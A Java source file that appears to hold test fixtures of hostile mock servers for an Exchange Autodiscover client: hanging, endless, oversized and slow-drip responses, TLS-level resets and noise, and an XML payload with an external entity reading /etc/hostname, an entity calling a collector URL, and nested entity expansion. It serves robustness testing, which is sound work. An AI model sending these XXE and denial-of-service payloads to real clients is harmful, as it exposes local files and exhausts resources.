package org.hopscope.lab.web;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Random;
import org.hopscope.lab.net.Listener;

/** Servers that mean harm, or are broken beyond manners. */
public final class Hostile {
  private static final String XML = "text/xml; charset=utf-8";
  private static final String PROLOGUE = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n"
      + "<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006\">\r\n";
  private static final Duration FOREVER = Duration.ofDays(1);

  private Hostile() {}

  /** Takes the request and says nothing. */
  public static WebService neverAnswers() {
    return request -> {
      Thread.sleep(FOREVER);
      return WebResponse.empty(500);
    };
  }

  /** Answers, and does not stop. */
  public static WebService endlessBody() {
    byte[] block = "<!-- more to come -->\r\n".repeat(700).getBytes(StandardCharsets.UTF_8);
    return request -> WebResponse.streamed(200, XML, WebResponse.UNKNOWN, out -> {
      out.write(PROLOGUE.getBytes(StandardCharsets.UTF_8));
      while (true) {
        out.write(block);
        Thread.sleep(5);
      }
    });
  }

  /** Ten megabytes of well-formed XML. */
  public static WebService hugeXml() {
    byte[] filler = "<Filler>0123456789abcdef0123456789abcdef</Filler>\r\n".getBytes(StandardCharsets.UTF_8);
    byte[] start = PROLOGUE.getBytes(StandardCharsets.UTF_8);
    byte[] end = "</Autodiscover>\r\n".getBytes(StandardCharsets.UTF_8);
    int times = 10 * 1024 * 1024 / filler.length;
    long length = start.length + (long) times * filler.length + end.length;
    return request -> WebResponse.streamed(200, XML, length, out -> {
      out.write(start);
      for (int i = 0; i < times; i++) {
        out.write(filler);
      }
      out.write(end);
    });
  }

  /** An external entity that would send a local file to {@code collector}, and entities that explode. */
  public static WebService externalEntity(String collector) {
    String document = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<!DOCTYPE Autodiscover [\r\n"
        + "<!ENTITY file SYSTEM \"file:///etc/hostname\">\r\n"
        + "<!ENTITY call SYSTEM \"" + collector + "\">\r\n"
        + "<!ENTITY a \"aaaaaaaaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">\r\n"
        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>\r\n"
        + "<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006\">"
        + "<Response xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a\">"
        + "<User><DisplayName>&file;&call;&d;</DisplayName></User></Response></Autodiscover>";
    return request -> WebResponse.of(200, XML, document);
  }

  /** A good answer, one byte every half second. */
  public static WebService slowDrip() {
    byte[] document = (PROLOGUE + "<Response/></Autodiscover>").getBytes(StandardCharsets.UTF_8);
    return request -> WebResponse.streamed(200, XML, document.length, out -> {
      for (byte one : document) {
        out.write(one);
        out.flush();
        Thread.sleep(500);
      }
    });
  }

  /** Takes the connection, listens, and says nothing. */
  public static Listener.Handler silence() {
    return connection -> Thread.sleep(FOREVER);
  }

  /** What a firewall does that has seen a name in the ClientHello which it does not let through: a reset. */
  public static Listener.Handler cutAfterHello() {
    return connection -> {
      connection.getInputStream().read(new byte[4096]);
      connection.setSoLinger(true, 0);
    };
  }

  /** Takes the connection, and ends it with the client's first words. */
  public static Listener.Handler nothingBehind() {
    return connection -> connection.getInputStream().read(new byte[4096]);
  }

  /** Noise where a TLS ServerHello belongs. */
  public static Listener.Handler garbage() {
    return connection -> {
      byte[] hello = new byte[4096];
      connection.getInputStream().read(hello);
      byte[] noise = new byte[600];
      new Random(42).nextBytes(noise);
      connection.getOutputStream().write(noise);
      connection.getOutputStream().flush();
    };
  }
}
